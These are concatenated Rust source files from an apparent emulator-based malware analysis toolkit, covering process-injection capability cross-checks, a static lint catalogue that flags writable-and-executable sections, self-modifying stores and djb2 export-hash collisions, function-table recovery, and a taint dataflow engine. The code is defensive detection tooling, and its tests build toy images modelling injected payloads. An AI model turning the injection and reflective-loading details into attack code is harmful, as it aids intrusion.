            "dbg.exe",
            "dbg.exe",
            &[(Sysno::NtReadVirtualMemory, [7, 0x1000, 0x50_0000, 16, 0])],
        );
        let check = capability_cross_check(&[p], &images);
        assert!(!check.injection_suspected(), "{check:?}");
        assert_eq!(check.processes[0].exercised, CapSet::of(Capability::ReadRemote));
    }

    #[test]
    fn cross_check_json_round_trips() {
        let images = BTreeMap::from([("inj.exe".to_string(), injector_image())]);
        let p = observed(
            "inj.exe",
            "inj.exe",
            &[(Sysno::NtWriteVirtualMemory, [7, 0, 0, 0, 0])],
        );
        let check = capability_cross_check(&[p], &images);
        let back = CapabilityCrossCheck::from_json_value(&check.to_json_value()).unwrap();
        assert_eq!(back, check);
        let empty = CapabilityCrossCheck::default();
        assert!(empty.is_empty());
        let back = CapabilityCrossCheck::from_json_value(&empty.to_json_value()).unwrap();
        assert_eq!(back, empty);
    }

    #[test]
    fn stats_record_as_syscap_metrics_and_trace_events() {
        let stats = SyscapStats {
            images_analyzed: 2,
            sites_lifted: 5,
            sites_unresolved: 1,
            caps_static: 7,
            recipes_static: 2,
            caps_impossible: 1,
            recipes_exercised: 1,
            recipes_residual: 1,
        };
        let mut reg = MetricsRegistry::new();
        stats.record_into(&mut reg);
        let snap = reg.snapshot();
        assert_eq!(snap.counter("syscap.images"), Some(2));
        assert_eq!(snap.counter("syscap.caps.impossible"), Some(1));
        assert_eq!(snap.counter("syscap.recipes.exercised"), Some(1));
        let back = SyscapStats::from_json_value(&stats.to_json_value()).unwrap();
        assert_eq!(back, stats);
        let mut merged = SyscapStats::default();
        merged.merge(&stats);
        assert_eq!(merged, stats);
        let rec = RecorderHandle::new(16);
        stats.trace_into(&rec, 42, "corpus");
        let chrome = rec.export_chrome();
        assert!(chrome.contains("syscap.caps.static"), "{chrome}");
    }

    #[test]
    fn render_shows_processes_and_residual(){
        let images = BTreeMap::from([("inj.exe".to_string(), injector_image())]);
        let p = observed("inj.exe", "inj.exe", &[]);
        let check = capability_cross_check(&[p], &images);
        let table = render_capability_check(&check);
        assert!(table.contains("residual: remote-thread-injection"), "{table}");
    }
}
