//! The static lint catalogue over FDL images.
//!
//! Severity is split deliberately:
//!
//! * **Error** findings are invariant violations no well-formed FDL binary
//!   produces — a writable-and-executable section, a reachable store whose
//!   statically known target lands in code, an export pointing outside
//!   every code section, or two exports whose djb2 hashes collide (a
//!   reflective resolver would bind the wrong function). The entire benign
//!   corpus carries zero of these; injected payload blobs carry at least
//!   one (they ship as RWX by construction).
//! * **Advisory** findings are facts an analyst wants but legitimate
//!   binaries routinely exhibit: indirect call/jump sites with no static
//!   target (every API call through a resolved pointer) and sweep-only
//!   code descent never reached (data mistaken for code, or functions only
//!   reached indirectly).

use crate::cfg::ModuleCfg;
use faros_emu::isa::Instr;
use faros_kernel::module::FdlImage;
use std::fmt;

/// How serious a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    /// Invariant violation; never emitted for a well-formed benign image.
    Error,
    /// Informational; expected on legitimate binaries.
    Advisory,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Severity::Error => write!(f, "error"),
            Severity::Advisory => write!(f, "advisory"),
        }
    }
}

/// What a finding is about. The derived order (declaration order) is part
/// of the deterministic sort key for rendered findings.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum FindingKind {
    /// A section mapped both writable and executable.
    WxSection,
    /// A reachable store whose statically resolved target is inside an
    /// executable section.
    WriteToCode,
    /// An indirect call/jump with no statically resolvable target.
    UnresolvedIndirect,
    /// Code found by the sweep that recursive descent never reached.
    UnreachableBlock,
    /// An export whose VA is outside every executable section.
    ExportOutsideCode,
    /// Two differently named exports with the same djb2 name hash.
    ExportHashCollision,
    /// A syscall site whose service number the VSA cannot resolve to a
    /// constant — every syscall-indexed static view (taint sources,
    /// capability lifting) must treat it as "could be any service".
    SyscallNumberUnresolved,
}

impl FindingKind {
    /// The severity class of this kind of finding.
    pub fn severity(self) -> Severity {
        match self {
            FindingKind::WxSection
            | FindingKind::WriteToCode
            | FindingKind::ExportOutsideCode
            | FindingKind::ExportHashCollision => Severity::Error,
            FindingKind::UnresolvedIndirect
            | FindingKind::UnreachableBlock
            | FindingKind::SyscallNumberUnresolved => Severity::Advisory,
        }
    }
}

impl fmt::Display for FindingKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            FindingKind::WxSection => "w^x-section",
            FindingKind::WriteToCode => "write-to-code",
            FindingKind::UnresolvedIndirect => "unresolved-indirect",
            FindingKind::UnreachableBlock => "unreachable-block",
            FindingKind::ExportOutsideCode => "export-outside-code",
            FindingKind::ExportHashCollision => "export-hash-collision",
            FindingKind::SyscallNumberUnresolved => "syscall-number-unresolved",
        };
        write!(f, "{s}")
    }
}

/// One structured lint finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Module the finding is about.
    pub module: String,
    /// What was found.
    pub kind: FindingKind,
    /// The finding's severity (derived from `kind`).
    pub severity: Severity,
    /// VA the finding anchors at (section base, instruction, export VA).
    pub va: u32,
    /// Human-readable detail.
    pub detail: String,
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "[{}] {} {} @ {:#010x}: {}",
            self.severity, self.module, self.kind, self.va, self.detail
        )
    }
}

fn finding(module: &str, kind: FindingKind, va: u32, detail: String) -> Finding {
    Finding { module: module.to_string(), kind, severity: kind.severity(), va, detail }
}

/// Runs every lint over `image`, returning findings with `Error`s first,
/// then by VA.
pub fn lint_image(name: &str, image: &FdlImage) -> Vec<Finding> {
    let cfg = ModuleCfg::recover(name, image);
    lint_with_cfg(name, image, &cfg)
}

/// [`lint_image`] over an already-recovered CFG (so callers analyzing the
/// same image for coverage do not disassemble twice).
pub fn lint_with_cfg(name: &str, image: &FdlImage, cfg: &ModuleCfg) -> Vec<Finding> {
    let mut out = Vec::new();

    // W^X: a section both writable and executable.
    for s in &image.sections {
        use faros_emu::mmu::Perms;
        if s.perms.contains(Perms::W) && s.perms.contains(Perms::X) {
            out.push(finding(
                name,
                FindingKind::WxSection,
                s.va,
                format!("{}-byte section mapped writable and executable", s.data.len()),
            ));
        }
    }

    // Reachable stores with a statically known target inside code.
    for (va, instr) in cfg.reachable_instrs() {
        if let Instr::Store { mem, .. } = instr {
            if mem.base.is_none() && mem.index.is_none() {
                let target = mem.disp as u32;
                if image.is_code_va(target) {
                    out.push(finding(
                        name,
                        FindingKind::WriteToCode,
                        va,
                        format!("store targets code VA {target:#010x}"),
                    ));
                }
            }
        }
    }

    // Exports must land in executable bytes.
    for e in &image.exports {
        if !image.is_code_va(e.va) {
            out.push(finding(
                name,
                FindingKind::ExportOutsideCode,
                e.va,
                format!("export `{}` points outside every code section", e.name),
            ));
        }
    }

    // djb2 collisions between exports break reflective hash resolution.
    for (i, a) in image.exports.iter().enumerate() {
        for b in image.exports.iter().skip(i + 1) {
            if a.name != b.name && a.hash() == b.hash() {
                out.push(finding(
                    name,
                    FindingKind::ExportHashCollision,
                    a.va,
                    format!("exports `{}` and `{}` share hash {:#010x}", a.name, b.name, a.hash()),
                ));
            }
        }
    }

    // Advisory: statically unresolvable control flow. Sites the dataflow
    // engine resolved (`ModuleCfg::splice_resolved` recorded a finite
    // target set) are discharged — pass a CFG out of
    // `dataflow::analyze_image` to get the discharge.
    for site in &cfg.indirect_sites {
        if site.reachable && !cfg.resolved_targets.contains_key(&site.va) {
            out.push(finding(
                name,
                FindingKind::UnresolvedIndirect,
                site.va,
                format!("`{}` has no statically resolvable target", site.instr),
            ));
        }
    }

    // Advisory: sweep-only code.
    for b in cfg.unreachable_blocks() {
        out.push(finding(
            name,
            FindingKind::UnreachableBlock,
            b.start,
            format!("{}-instruction block unreachable from entry/exports", b.instrs.len()),
        ));
    }

    // Deterministic output: total order over every field, then dedup —
    // two lints anchoring an identical finding at the same VA (or one
    // lint walking a shared block twice) must render once.
    out.sort_by(|a, b| {
        (a.severity, a.kind, a.va, &a.module, &a.detail).cmp(&(
            b.severity,
            b.kind,
            b.va,
            &b.module,
            &b.detail,
        ))
    });
    out.dedup();
    out
}

/// Renders findings as a fixed-width table, one row per finding.
pub fn render_findings(findings: &[Finding]) -> String {
    let mut out = String::new();
    out.push_str("severity | module                 | finding              | va         | detail\n");
    out.push_str("---------+------------------------+----------------------+------------+-------\n");
    for f in findings {
        out.push_str(&format!(
            "{:<8} | {:<22} | {:<20} | {:#010x} | {}\n",
            f.severity.to_string(),
            f.module,
            f.kind.to_string(),
            f.va,
            f.detail
        ));
    }
    if findings.is_empty() {
        out.push_str("(no findings)\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_emu::isa::{Mem as M, Reg};
    use faros_emu::mmu::Perms;
    use faros_kernel::module::{Export, Section};

    const BASE: u32 = 0x40_0000;

    fn rx_image(asm: Asm) -> FdlImage {
        FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section {
                va: BASE,
                data: asm.assemble().expect("assembles"),
                perms: Perms::RX,
            }],
            exports: vec![],
        }
    }

    fn errors(findings: &[Finding]) -> Vec<&Finding> {
        findings.iter().filter(|f| f.severity == Severity::Error).collect()
    }

    #[test]
    fn clean_image_has_no_error_findings() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, 1);
        asm.hlt();
        let findings = lint_image("clean", &rx_image(asm));
        assert!(errors(&findings).is_empty(), "{findings:?}");
    }

    #[test]
    fn rwx_section_is_an_error() {
        let mut asm = Asm::new(BASE);
        asm.hlt();
        let mut image = rx_image(asm);
        image.sections[0].perms = Perms::RWX;
        let findings = lint_image("payload", &image);
        assert!(findings.iter().any(|f| f.kind == FindingKind::WxSection));
        assert_eq!(findings[0].severity, Severity::Error);
    }

    #[test]
    fn self_modifying_store_is_an_error() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, 0x90);
        asm.st4(M::abs(BASE + 1), Reg::Eax); // patches own code
        asm.hlt();
        let findings = lint_image("patcher", &rx_image(asm));
        let hits: Vec<_> =
            findings.iter().filter(|f| f.kind == FindingKind::WriteToCode).collect();
        assert_eq!(hits.len(), 1);
        assert!(hits[0].detail.contains("0x00400001"));
    }

    #[test]
    fn store_to_data_is_clean() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, 7);
        asm.st4(M::abs(0x50_0000), Reg::Eax); // outside the image entirely
        asm.hlt();
        let findings = lint_image("writer", &rx_image(asm));
        assert!(findings.iter().all(|f| f.kind != FindingKind::WriteToCode));
    }

    #[test]
    fn indirect_call_is_advisory_only() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Ebp, 0x8000_0000);
        asm.call_reg(Reg::Ebp);
        asm.hlt();
        let findings = lint_image("api-user", &rx_image(asm));
        let inds: Vec<_> =
            findings.iter().filter(|f| f.kind == FindingKind::UnresolvedIndirect).collect();
        assert_eq!(inds.len(), 1);
        assert_eq!(inds[0].severity, Severity::Advisory);
        assert!(errors(&findings).is_empty());
    }

    #[test]
    fn dangling_and_colliding_exports_are_errors() {
        let mut asm = Asm::new(BASE);
        asm.hlt();
        let mut image = rx_image(asm);
        image.exports = vec![
            Export { name: "dangling".into(), va: 0x0900_0000 },
            // djb2 collides for these two (crafted): find a pair by brute
            // force over short suffixes in-test instead of hardcoding.
        ];
        let findings = lint_image("exports", &image);
        assert!(findings.iter().any(|f| f.kind == FindingKind::ExportOutsideCode));

        // Construct a genuine djb2 collision: "a" then shift; djb2 is
        // linear, so `{prefix}bX` and `{prefix}aY` collide when
        // 33*'b'+X == 33*'a'+Y  =>  Y = X + 33.
        let mut asm2 = Asm::new(BASE);
        asm2.hlt();
        let mut image2 = rx_image(asm2);
        let x = b'0';
        let y = x + 33;
        let n1 = format!("b{}", x as char);
        let n2 = format!("a{}", y as char);
        image2.exports = vec![
            Export { name: n1, va: BASE },
            Export { name: n2, va: BASE },
        ];
        let findings2 = lint_image("collide", &image2);
        assert!(
            findings2.iter().any(|f| f.kind == FindingKind::ExportHashCollision),
            "{findings2:?}"
        );
    }

    #[test]
    fn findings_sort_by_severity_kind_va_and_dedup() {
        // Duplicate exports produce byte-identical findings; an RWX section
        // plus sweep-only code give one error and one advisory to order.
        let mut asm = Asm::new(BASE);
        asm.hlt();
        asm.mov_ri(Reg::Eax, 1); // after hlt: sweep-only, unreachable
        asm.hlt();
        let mut image = rx_image(asm);
        image.sections[0].perms = Perms::RWX;
        image.exports = vec![
            Export { name: "dup".into(), va: 0x0900_0000 },
            Export { name: "dup".into(), va: 0x0900_0000 },
        ];
        let findings = lint_image("m", &image);
        let dups: Vec<_> =
            findings.iter().filter(|f| f.kind == FindingKind::ExportOutsideCode).collect();
        assert_eq!(dups.len(), 1, "identical findings must dedup: {findings:?}");
        let keys: Vec<_> =
            findings.iter().map(|f| (f.severity, f.kind, f.va, &f.module, &f.detail)).collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(keys, sorted, "findings must come out in total order");
        assert!(findings.iter().any(|f| f.kind == FindingKind::UnreachableBlock));
    }

    #[test]
    fn dataflow_resolved_indirects_are_discharged() {
        // `mov ebx, helper; call ebx` is an unresolved-indirect advisory
        // for the plain recovered CFG, but the dataflow engine resolves it
        // to a constant and the lint discharges the finding.
        let mut asm = Asm::new(BASE);
        asm.mov_label(Reg::Ebx, "helper");
        asm.call_reg(Reg::Ebx);
        asm.hlt();
        asm.label("helper");
        asm.ret();
        let image = rx_image(asm);
        let plain = lint_image("m", &image);
        assert!(plain.iter().any(|f| f.kind == FindingKind::UnresolvedIndirect));
        let df = crate::dataflow::analyze_image("m", &image);
        let resolved = lint_with_cfg("m", &image, &df.cfg);
        assert!(
            resolved.iter().all(|f| f.kind != FindingKind::UnresolvedIndirect),
            "{resolved:?}"
        );
    }

    #[test]
    fn findings_render_as_table() {
        let mut asm = Asm::new(BASE);
        asm.hlt();
        let mut image = rx_image(asm);
        image.sections[0].perms = Perms::RWX;
        let findings = lint_image("m", &image);
        let table = render_findings(&findings);
        assert!(table.contains("w^x-section"));
        assert!(render_findings(&[]).contains("no findings"));
    }
}
