//! Function-table recovery — the symbolization hook for the deterministic
//! replay profiler.
//!
//! The profiler attributes retired instructions to basic-block start VAs;
//! this module turns a static image into an [`faros_obs::prof::ModuleLayout`]
//! so those VAs can be rolled up to named functions. Function entries come
//! from the CFI model (image entry point, code exports, direct call
//! targets, resolved indirect targets); names come from the export table,
//! with a `sub_<va>` synthesized for entries no export names. Everything
//! here is a pure function of the image bytes, so symbolization never
//! perturbs the profiler's replay-identical output.

use crate::cfg::ModuleCfg;
use crate::cfi::CfiModel;
use crate::coverage::basename;
use faros_kernel::module::{FdlImage, ModuleInfo};
use faros_obs::prof::ModuleLayout;
use std::collections::BTreeMap;

/// Builds the [`ModuleLayout`] of one image from an already-recovered CFG,
/// avoiding a second dataflow run when the caller has one in hand.
pub fn module_layout_from_cfg(name: &str, image: &FdlImage, cfg: &ModuleCfg) -> ModuleLayout {
    let model = CfiModel::from_cfg(name, image, cfg);
    let mut functions: BTreeMap<u32, String> = model
        .function_entries
        .iter()
        .map(|&va| (va, format!("sub_{va:08x}")))
        .collect();
    for e in &image.exports {
        // Exports name entries the CFI model already proved are code; an
        // export pointing at data stays out of the table.
        if let Some(slot) = functions.get_mut(&e.va) {
            *slot = e.name.clone();
        }
    }
    let base = image.sections.iter().map(|s| s.va).min().unwrap_or(0);
    let limit = image.sections.iter().map(|s| s.end_va()).max().unwrap_or(0);
    ModuleLayout { name: name.to_string(), base, limit, functions }
}

/// Recovers the function table of one image, running CFG recovery
/// internally. The profiler's per-module symbolization entry point.
pub fn module_layout(name: &str, image: &FdlImage) -> ModuleLayout {
    module_layout_from_cfg(name, image, &ModuleCfg::recover(name, image))
}

/// Builds the function-table layout of every image in an
/// [`crate::image_map`]-style map (keys are basenames), one static model
/// per image regardless of how many processes load it.
pub fn layout_map(images: &BTreeMap<String, FdlImage>) -> BTreeMap<String, ModuleLayout> {
    images.iter().map(|(name, image)| (name.clone(), module_layout(name, image))).collect()
}

/// Selects the layouts of a process's loaded modules, matched by basename
/// exactly as the coverage diff matches modules to images. Modules with no
/// archived image are skipped — their blocks symbolize to `[anon]`.
pub fn layouts_for(
    modules: &[ModuleInfo],
    layouts: &BTreeMap<String, ModuleLayout>,
) -> Vec<ModuleLayout> {
    modules.iter().filter_map(|m| layouts.get(basename(&m.name)).cloned()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_emu::mmu::Perms;
    use faros_kernel::module::{Export, Section};

    const BASE: u32 = 0x40_0000;

    fn image_with_export() -> (FdlImage, u32) {
        // entry: call helper; hlt. helper: ret.
        let mut asm = Asm::new(BASE);
        asm.call("helper");
        asm.hlt();
        asm.label("helper");
        asm.ret();
        let (data, labels) = asm.assemble_with_labels().unwrap();
        let helper_va = labels["helper"];
        let image = FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section { va: BASE, data, perms: Perms::RX }],
            exports: vec![Export { name: "helper".to_string(), va: helper_va }],
        };
        (image, helper_va)
    }

    #[test]
    fn layout_spans_the_image_and_names_exports() {
        let (image, helper_va) = image_with_export();
        let layout = module_layout("app.exe", &image);
        assert_eq!(layout.name, "app.exe");
        assert_eq!(layout.base, BASE);
        assert!(layout.limit > BASE);
        assert_eq!(layout.functions.get(&helper_va).map(String::as_str), Some("helper"));
        // The unexported entry point gets a synthesized name.
        assert_eq!(
            layout.functions.get(&BASE).map(String::as_str),
            Some(&*format!("sub_{BASE:08x}"))
        );
    }
}
