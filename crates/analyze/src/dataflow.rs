//! The static dataflow engine: indirect-branch resolution and a
//! source→sink taint-flow model, cross-checked against the dynamic engine.
//!
//! [`analyze_image`] drives [`crate::vsa`] to a whole-image fixpoint:
//!
//! 1. **Resolution** — every reachable function is analyzed; indirect
//!    call/jump sites whose target value set is finite are *resolved*, the
//!    edges are spliced back into the [`ModuleCfg`]
//!    ([`ModuleCfg::splice_resolved`]), and the analysis repeats — newly
//!    reachable code may contain further sites — until nothing changes.
//! 2. **Taint summaries** — a second lock-step pass computes, per
//!    function, which syscall *sources* (`NtSocketRecv`, `NtReadFile`,
//!    `NtReadVirtualMemory`) can reach which *sinks* (output syscalls,
//!    indirect call-outs through tainted registers). Summaries compose
//!    over the static call graph into an inter-procedural
//!    [`ImageFlowMap`]: the source→sink flows the image can exhibit *per
//!    the model*, plus the set of instructions tainted data can reach.
//!
//! [`taint_cross_check`] is the dynamic half, mirroring the coverage
//! cross-check: each dynamic taint alert is classified *statically
//! explainable* (the static model predicts tainted data at that
//! instruction) or *statically impossible-per-model* (it does not — which
//! is itself an injection signal: the code the alert fired in is not part
//! of any loaded image's modeled flows, exactly like
//! executed-but-unaccounted blocks). Statically feasible flows that no
//! replay ever exercised are reported as *residual attack surface*.
//!
//! The memory model is deliberately coarse — one "tainted memory" bucket
//! per function plus an *ambient* bit for taint inherited from callers —
//! which over-approximates explainability. That is the sound direction:
//! an alert is only called *impossible* when even the coarse model cannot
//! produce tainted data at its address.

use crate::cfg::ModuleCfg;
use crate::vsa::{self, AVal, FunctionVsa, State};
use faros_emu::isa::{AluOp, Instr, Mem, Operand, Reg, Width, NUM_REGS};
use faros_emu::mmu::{Perms, KERNEL_BASE};
use faros_kernel::module::FdlImage;
use faros_kernel::nt::Sysno;
use faros_obs::metrics::MetricsRegistry;
use faros_obs::trace::{RecorderHandle, TraceCategory, TraceEvent};
use faros_replay::ProcessBlocks;
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt;

/// A syscall input source — where external bytes enter the process.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SourceKind {
    /// `NtSocketRecv` — network input.
    Net,
    /// `NtReadFile` — file input.
    File,
    /// `NtReadVirtualMemory` — bytes read out of another process.
    CrossProcess,
}

impl SourceKind {
    const ALL: [SourceKind; 3] = [SourceKind::Net, SourceKind::File, SourceKind::CrossProcess];

    fn bit(self) -> u8 {
        match self {
            SourceKind::Net => 1,
            SourceKind::File => 2,
            SourceKind::CrossProcess => 4,
        }
    }

    fn name(self) -> &'static str {
        match self {
            SourceKind::Net => "net",
            SourceKind::File => "file",
            SourceKind::CrossProcess => "cross-process",
        }
    }
}

impl fmt::Display for SourceKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A taint sink — where tainted bytes leave the process or take control.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SinkKind {
    /// `NtSocketSend`.
    Net,
    /// `NtWriteFile`.
    File,
    /// `NtWriteVirtualMemory` — bytes written into another process.
    CrossProcess,
    /// `NtDisplayString`.
    Console,
    /// An indirect call/jump whose target register holds tainted data.
    IndirectCall,
}

impl SinkKind {
    fn name(self) -> &'static str {
        match self {
            SinkKind::Net => "net",
            SinkKind::File => "file",
            SinkKind::CrossProcess => "cross-process",
            SinkKind::Console => "console",
            SinkKind::IndirectCall => "indirect-call",
        }
    }
}

impl fmt::Display for SinkKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl ToJson for SourceKind {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::Str(self.name().to_string())
    }
}

impl FromJson for SourceKind {
    fn from_json_value(v: &JsonValue) -> Result<SourceKind, JsonError> {
        match v.as_str() {
            Some("net") => Ok(SourceKind::Net),
            Some("file") => Ok(SourceKind::File),
            Some("cross-process") => Ok(SourceKind::CrossProcess),
            _ => Err(JsonError::decode("unknown SourceKind")),
        }
    }
}

impl ToJson for SinkKind {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::Str(self.name().to_string())
    }
}

impl FromJson for SinkKind {
    fn from_json_value(v: &JsonValue) -> Result<SinkKind, JsonError> {
        match v.as_str() {
            Some("net") => Ok(SinkKind::Net),
            Some("file") => Ok(SinkKind::File),
            Some("cross-process") => Ok(SinkKind::CrossProcess),
            Some("console") => Ok(SinkKind::Console),
            Some("indirect-call") => Ok(SinkKind::IndirectCall),
            _ => Err(JsonError::decode("unknown SinkKind")),
        }
    }
}

/// Taint-mask bit: value depends on memory as it was at function entry
/// (resolved per function via the ambient fixpoint).
const AMBIENT: u8 = 8;
/// All three concrete source bits.
const ALL_SOURCES: u8 = 7;

fn source_of(sysno: u32) -> Option<SourceKind> {
    match sysno {
        x if x == Sysno::NtSocketRecv as u32 => Some(SourceKind::Net),
        x if x == Sysno::NtReadFile as u32 => Some(SourceKind::File),
        x if x == Sysno::NtReadVirtualMemory as u32 => Some(SourceKind::CrossProcess),
        _ => None,
    }
}

/// Output syscalls, with the register carrying the buffer they read
/// (`a0..a4` = `ebx ecx edx esi edi`).
fn sink_of(sysno: u32) -> Option<(SinkKind, Reg)> {
    match sysno {
        x if x == Sysno::NtSocketSend as u32 => Some((SinkKind::Net, Reg::Ecx)),
        x if x == Sysno::NtWriteFile as u32 => Some((SinkKind::File, Reg::Ecx)),
        x if x == Sysno::NtWriteVirtualMemory as u32 => Some((SinkKind::CrossProcess, Reg::Edx)),
        x if x == Sysno::NtDisplayString as u32 => Some((SinkKind::Console, Reg::Ebx)),
        _ => None,
    }
}

fn kinds_of(mask: u8) -> impl Iterator<Item = SourceKind> {
    SourceKind::ALL.into_iter().filter(move |k| mask & k.bit() != 0)
}

/// One statically feasible source→sink flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct StaticFlow {
    /// Where the bytes come from.
    pub source: SourceKind,
    /// Where they can go.
    pub sink: SinkKind,
    /// VA of the sink instruction.
    pub sink_va: u32,
}

impl ToJson for StaticFlow {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("source", self.source.to_json_value()),
            ("sink", self.sink.to_json_value()),
            ("sink_va", self.sink_va.to_json_value()),
        ])
    }
}

impl FromJson for StaticFlow {
    fn from_json_value(v: &JsonValue) -> Result<StaticFlow, JsonError> {
        Ok(StaticFlow {
            source: json::field(v, "source")?,
            sink: json::field(v, "sink")?,
            sink_va: json::field(v, "sink_va")?,
        })
    }
}

/// The inter-procedural source→sink reachability map of one image.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ImageFlowMap {
    /// Module name the map was built for.
    pub module: String,
    /// Syscall source sites: `(site VA, kind)`, sorted, deduped.
    pub sources: Vec<(u32, SourceKind)>,
    /// Feasible flows, sorted, deduped.
    pub flows: Vec<StaticFlow>,
    /// Instruction VAs tainted data can reach per the model — the
    /// explainability set the cross-check consults.
    pub taint_reachable: BTreeSet<u32>,
}

impl ImageFlowMap {
    /// Flows ending at a given sink kind.
    pub fn flows_into(&self, sink: SinkKind) -> impl Iterator<Item = &StaticFlow> {
        self.flows.iter().filter(move |f| f.sink == sink)
    }
}

impl ToJson for ImageFlowMap {
    fn to_json_value(&self) -> JsonValue {
        let sources: Vec<JsonValue> = self
            .sources
            .iter()
            .map(|(va, k)| {
                JsonValue::object(vec![("va", va.to_json_value()), ("kind", k.to_json_value())])
            })
            .collect();
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("sources", JsonValue::Array(sources)),
            ("flows", self.flows.to_json_value()),
            (
                "taint_reachable",
                self.taint_reachable.iter().copied().collect::<Vec<u32>>().to_json_value(),
            ),
        ])
    }
}

impl FromJson for ImageFlowMap {
    fn from_json_value(v: &JsonValue) -> Result<ImageFlowMap, JsonError> {
        let raw_sources = v
            .get("sources")
            .and_then(JsonValue::as_array)
            .ok_or_else(|| JsonError::decode("missing sources array"))?;
        let mut sources = Vec::with_capacity(raw_sources.len());
        for s in raw_sources {
            sources.push((json::field(s, "va")?, json::field(s, "kind")?));
        }
        let reach: Vec<u32> = json::field(v, "taint_reachable")?;
        Ok(ImageFlowMap {
            module: json::field(v, "module")?,
            sources,
            flows: json::field(v, "flows")?,
            taint_reachable: reach.into_iter().collect(),
        })
    }
}

/// Cost and outcome counters for one (or several, via [`merge`]) dataflow
/// runs.
///
/// [`merge`]: DataflowStats::merge
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DataflowStats {
    /// VSA worklist iterations (blocks processed, including revisits).
    pub worklist_iterations: u64,
    /// Strided intervals widened to `Top`.
    pub widenings: u64,
    /// Reachable indirect sites whose target set was resolved.
    pub indirects_resolved: u64,
    /// Reachable indirect sites left unresolved.
    pub indirects_unresolved: u64,
    /// Call sites whose callee summary was already memoized.
    pub summary_cache_hits: u64,
    /// Functions analyzed (resolution and taint passes).
    pub functions_analyzed: u64,
}

impl DataflowStats {
    /// Accumulates another run's counters into `self`.
    pub fn merge(&mut self, other: &DataflowStats) {
        self.worklist_iterations += other.worklist_iterations;
        self.widenings += other.widenings;
        self.indirects_resolved += other.indirects_resolved;
        self.indirects_unresolved += other.indirects_unresolved;
        self.summary_cache_hits += other.summary_cache_hits;
        self.functions_analyzed += other.functions_analyzed;
    }

    /// Emits the counters as `analyze.*` metrics, so dataflow cost shows
    /// up in `MetricsSnapshot`s and the Chrome trace alongside everything
    /// else `faros-obs` records.
    pub fn record_into(&self, reg: &mut MetricsRegistry) {
        for (name, value) in self.rows() {
            let id = reg.counter(name);
            reg.add(id, value);
        }
    }

    /// The counters as `(metric name, value)` rows, in emission order —
    /// what [`record_into`](DataflowStats::record_into) writes, exposed so
    /// callers can also stamp them onto a Chrome trace as instant-event
    /// args.
    pub fn rows(&self) -> [(&'static str, u64); 6] {
        [
            ("analyze.worklist.iterations", self.worklist_iterations),
            ("analyze.widenings", self.widenings),
            ("analyze.indirect.resolved", self.indirects_resolved),
            ("analyze.indirect.unresolved", self.indirects_unresolved),
            ("analyze.summary.cache_hits", self.summary_cache_hits),
            ("analyze.functions", self.functions_analyzed),
        ]
    }

    /// Emits the counters as one `analysis`-category instant event (one
    /// arg per counter) into a trace recorder, so the dataflow cost is
    /// visible in the exported Chrome trace.
    pub fn trace_into(&self, rec: &RecorderHandle, ts: u64, module: &str) {
        let mut ev =
            TraceEvent::instant(ts, 0, 0, TraceCategory::Analysis, format!("analyze {module}"));
        for (name, value) in self.rows() {
            ev = ev.arg(name, value.to_string());
        }
        rec.record(ev);
    }
}

impl ToJson for DataflowStats {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("worklist_iterations", self.worklist_iterations.to_json_value()),
            ("widenings", self.widenings.to_json_value()),
            ("indirects_resolved", self.indirects_resolved.to_json_value()),
            ("indirects_unresolved", self.indirects_unresolved.to_json_value()),
            ("summary_cache_hits", self.summary_cache_hits.to_json_value()),
            ("functions_analyzed", self.functions_analyzed.to_json_value()),
        ])
    }
}

impl FromJson for DataflowStats {
    fn from_json_value(v: &JsonValue) -> Result<DataflowStats, JsonError> {
        Ok(DataflowStats {
            worklist_iterations: json::field(v, "worklist_iterations")?,
            widenings: json::field(v, "widenings")?,
            indirects_resolved: json::field(v, "indirects_resolved")?,
            indirects_unresolved: json::field(v, "indirects_unresolved")?,
            summary_cache_hits: json::field(v, "summary_cache_hits")?,
            functions_analyzed: json::field(v, "functions_analyzed")?,
        })
    }
}

/// The VSA view of one reachable syscall (`int`) site: which functions'
/// intra-procedural walks reach it and the joined abstract registers
/// right before the instruction — what the capability analysis
/// (`crate::syscap`) lifts into the capability lattice.
#[derive(Debug, Clone)]
pub struct SyscallSite {
    /// Entries of the functions whose walk visits the site.
    pub functions: BTreeSet<u32>,
    /// Abstract register values at the site, joined over every visiting
    /// function.
